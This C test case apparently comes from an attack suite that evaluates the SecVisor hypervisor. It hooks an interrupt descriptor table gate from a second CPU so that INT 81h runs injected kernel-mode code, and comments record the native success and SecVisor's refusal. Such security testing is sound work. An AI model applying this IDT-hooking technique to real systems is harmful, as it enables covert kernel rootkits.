// Row 10. A gate of the IDT made to lead to kernel heap by the second CPU, while the first executes user code; then it takes an interrupt.
// Source: threat table; IDT hooking (kad, Phrack 59-4) across CPUs.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <sys/mman.h>

struct plan {
	volatile int spins, done;
	u64 at;
	u8 gate[16];
};

static void write_gate(void *with)
{
	struct plan *plan = with;

	while (!plan->spins)
		;
	poke_bytes(plan->at, plan->gate, sizeof(plan->gate));
	plan->done = 1;
}

ATTACK("idt-gate-other-cpu")
{
	struct plan *plan = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	u64 handler = kernel_page();
	long result;

	kwrite(handler, "\xb8\x37\x13\0\0\x48\xcf", 7); // mov eax, 0x1337; iretq
	make_executable(handler);
	prepare_entry();
	plan->at = tables().idt + 0x81 * 16;
	interrupt_gate(plan->gate, handler, 2);
	on_second_cpu(write_gate, plan);
	about_to("take an interrupt through a gate that the second CPU writes now");
	unprotect();
	plan->spins = 1;
	while (!plan->done)
		;
	result = interrupt_prepared();
	if (result == MARK)
		succeeded("INT 81h ran the second CPU's handler at CPL 0");
	failed("INT 81h returned %ld", result);
}
